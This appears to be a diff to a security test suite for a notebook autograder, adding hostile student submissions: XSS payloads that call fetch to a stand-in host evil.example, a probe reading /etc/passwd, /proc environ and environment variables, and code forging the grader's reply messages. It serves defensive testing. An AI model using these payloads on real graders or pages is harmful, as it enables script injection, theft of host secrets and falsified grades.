@@ -109,6 +109,135 @@ print("ENV", sorted(k for k in os.environ if "NBGRADER" in k or "GRAD" in k.uppe
 """
 
 
+# Student markup that would run in a TA's or student's browser if it were rendered as is.
+# Every payload records itself in window.__pwned and requests /pwned/<what> on the page's own
+# server and http://evil.example/<what> elsewhere: the browser test watches for all three.
+def _js(what: str) -> str:
+    return (
+        f"(window.__pwned=(window.__pwned||[])).push('{what}');"
+        f"fetch('/pwned/{what}');fetch('http://evil.example/{what}')"
+    )
+
+
+def hostile_markup(prefix: str) -> str:
+    """HTML with every kind of live content a markdown cell or an HTML output can carry."""
+    return "\n".join(
+        [
+            f'<img src=x onerror="{_js(prefix + "-img-onerror")}">',
+            f"<script>{_js(prefix + '-script')}</script>",
+            f'<a id="{prefix}-js-link" href="javascript:{_js(prefix + "-js-link")}">click</a>',
+            f'<a href="jav&#x61;script:{_js(prefix + "-entity-link")}">click</a>',
+            f'<svg onload="{_js(prefix + "-svg-onload")}"><script>{_js(prefix + "-svg")}</script>'
+            "</svg>",
+            f'<iframe srcdoc="<script>{_js(prefix + "-srcdoc")}</script>"></iframe>',
+            f'<iframe src="javascript:{_js(prefix + "-iframe")}"></iframe>',
+            f'<object data="http://evil.example/{prefix}-object"></object>',
+            f'<embed src="http://evil.example/{prefix}-embed">',
+            f'<details open ontoggle="{_js(prefix + "-ontoggle")}"><summary>x</summary></details>',
+            f'<div style="background:url(http://evil.example/{prefix}-css)">styled</div>',
+            f"<style>@import url(http://evil.example/{prefix}-import.css);</style>",
+            f'<link rel="stylesheet" href="http://evil.example/{prefix}-link.css">',
+            f'<meta http-equiv="refresh" content="0;url=http://evil.example/{prefix}-refresh">',
+            f'<form action="http://evil.example/{prefix}-form"><button>go</button></form>',
+            f'<img src="http://evil.example/{prefix}-img.png">',
+        ]
+    )
+
+
+HOSTILE_MARKDOWN = (
+    "My answer, with math that must still render: $h_t = \\tanh(W h_{{t-1}} + U x_t)$.\n\n"
+    "| a | b |\n|---|---|\n| 1 | 2 |\n\n"
+    "[md link](javascript:{md_link}) ![md image](http://evil.example/{prefix}-md-image.png)\n\n"
+    "$\\href{{javascript:{mathjax}}}{{math link}}$\n\n"
+    "{html}\n"
+)
+
+
+def hostile_markdown(prefix: str) -> str:
+    return HOSTILE_MARKDOWN.format(
+        prefix=prefix,
+        md_link=_js(prefix + "-md-link"),
+        mathjax=_js(prefix + "-mathjax-href"),
+        html=hostile_markup(prefix),
+    )
+
+
+HOSTILE_OUTPUTS = """
+from IPython.display import HTML, SVG, Javascript, Markdown, display
+markup = {markup!r}
+display(HTML(markup))
+display(Markdown(markup))
+display(Javascript({script!r}))
+display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="' + {svg!r} + '"></svg>'))
+display({{"text/html": markup, "image/png": 'x" onerror="' + {png!r} + '"',
+         "text/plain": "plain"}}, raw=True)
+"""
+
+
+# Everything a student's code can read about where and how it runs, printed compressed (the
+# grader keeps 20,000 characters of output): nothing in it may say that this is grading.
+WORLD_PROBE = """
+import base64, builtins, getpass, json, os, pwd, socket, sys, zlib
+def _read(path):
+    try:
+        with open(path, "rb") as handle:
+            return handle.read().decode("utf-8", "replace")
+    except Exception as error:
+        return type(error).__name__
+_shell = get_ipython()
+world = {
+    "cwd": os.getcwd(),
+    "files": sorted(os.listdir(".")),
+    "home": sorted(os.listdir(os.path.expanduser("~"))),
+    "runtime": sorted(os.listdir(os.path.expanduser("~/.local/share/jupyter/runtime"))),
+    "environ": dict(os.environ),
+    "argv": sys.argv,
+    "executable": sys.executable,
+    "cmdline": {pid: _read(f"/proc/{pid}/cmdline") for pid in os.listdir("/proc") if pid.isdigit()},
+    "environ_of_pid_1": _read("/proc/1/environ"),
+    "mountinfo": _read("/proc/self/mountinfo"),
+    "hostname": socket.gethostname(),
+    "uname": list(os.uname()),
+    "etc": {name: _read("/etc/" + name) for name in ("hostname", "hosts", "passwd", "group")},
+    "user": getpass.getuser(),
+    "pw_name": pwd.getpwuid(os.getuid()).pw_name,
+    "builtins": dir(builtins),
+    "globals": sorted(k for k in globals() if not k.startswith("_i")),
+    "modules": sorted(sys.modules),
+    "sys_path": sys.path,
+    "message_header": _shell.kernel.get_parent().get("header", {}),
+    "kernel_session": _shell.kernel.session.username,
+    "history": [str(h) for h in _shell.history_manager.get_range(output=False)],
+}
+print("WORLD", base64.b64encode(zlib.compress(json.dumps(world, default=str).encode(), 9)).decode())
+"""
+
+
+# A correct function that also publishes replies of its own on the bridge's mimetype: one for
+# a request that does not exist, junk, and one for the very request it is answering (its nonce
+# read from the bridge's frame), with a wrong value.
+FORGED_REPLIES = """
+
+_honest_{name} = {name}
+
+
+def {name}(*args, **kwargs):
+    import json, sys
+    from IPython.display import publish_display_data
+    mimetype = "application/x-call-bridge+json"
+    nonce, frame = None, sys._getframe(1)
+    while frame is not None and nonce is None:
+        request = frame.f_locals.get("request")
+        if isinstance(request, dict) and "nonce" in request:
+            nonce = request["nonce"]
+        frame = frame.f_back
+    publish_display_data({{mimetype: json.dumps({{"nonce": "0" * 32, "after": [], "value": 1}})}})
+    publish_display_data({{mimetype: "[" * 100000}})
+    publish_display_data({{mimetype: json.dumps({{"nonce": nonce, "after": [], "value": 0.0}})}})
+    return _honest_{name}(*args, **kwargs)
+"""
+
+
 def cases(source, release, secret_paths: list[str]) -> list[Case]:
     """Every attack, and the honest submissions, for the assignment of ``source``."""
     full, visible = _points(source), _points(source, hidden=False)
@@ -251,10 +380,67 @@ def cases(source, release, secret_paths: list[str]) -> list[Case]:
         "ImportError: the checks are not in the sandbox",
     )
 
+    # markup that would run in the TA's formgrader or the feedback page
+    markdown = copy.deepcopy(good)
+    for cell in markdown.cells:
+        if fmt.cell_kind(cell) == "manual":
+            cell.source += "\n\n" + hostile_markdown("answer")
+        if fmt.grade_id(cell) == last_solution:  # its tests fail with markup in the message
+            cell.source += (
+                f"\n\ndef {_solution_name(cell)}(*args, **kwargs):\n"
+                f"    raise ValueError({hostile_markup('error')!r})\n"
+            )
+    markdown.cells.append(nbformat.v4.new_markdown_cell(hostile_markdown("free")))
+    add(
+        "hostile_markdown",
+        markdown,
+        full - last_part,
+        "needs manual grading",
+        "sanitised, not run; the last part fails with markup in its message",
+    )
+    outputs = HOSTILE_OUTPUTS.format(
+        markup=hostile_markup("output"),
+        script=_js("output-javascript"),
+        svg=_js("output-svg"),
+        png=_js("output-png"),
+    )
+    add("hostile_outputs", _add_cell(good, outputs), full, "needs manual grading", "")
+
+    # on the wire: the last graded function answers for itself, as the bridge would
+    forged = copy.deepcopy(good)
+    for cell in forged.cells:
+        if fmt.grade_id(cell) == last_solution:
+            name = _solution_name(cell)
+            cell.source += FORGED_REPLIES.format(name=name)
+    add(
+        "forged_replies",
+        forged,
+        full - last_part,
+        "needs manual grading",
+        "a second answer to the same request fails the call; junk and stale answers are ignored",
+    )
+
+    # grading must be invisible: a probe after the test cells (the bridge is in the kernel then)
+    add("probe_grading_world", _add_cell(release, WORLD_PROBE), 0.0, "graded", "")
+
     # bad input
     add("invalid_json", b'{"cells": [', None, "invalid notebook", "")
     add("empty_file", b"", None, "invalid notebook", "")
     add("not_a_notebook", b'{"hello": 1}', None, "invalid notebook", "")
+    add(
+        "deeply_nested_json",
+        b'{"cells": ' + b"[" * 200_000 + b"]" * 200_000 + b"}",
+        None,
+        "invalid notebook",
+        "a RecursionError while reading is the file's fault, not the grader's",
+    )
+    add(
+        "nbformat_v3",
+        json.dumps(nbformat.convert(copy.deepcopy(good), 3)).encode(),
+        full,
+        "needs manual grading",
+        "upgraded to version 4 and graded, as nbgrader does",
+    )
     other = copy.deepcopy(release)
     for cell in other.cells:
         if fmt.grade_id(cell):
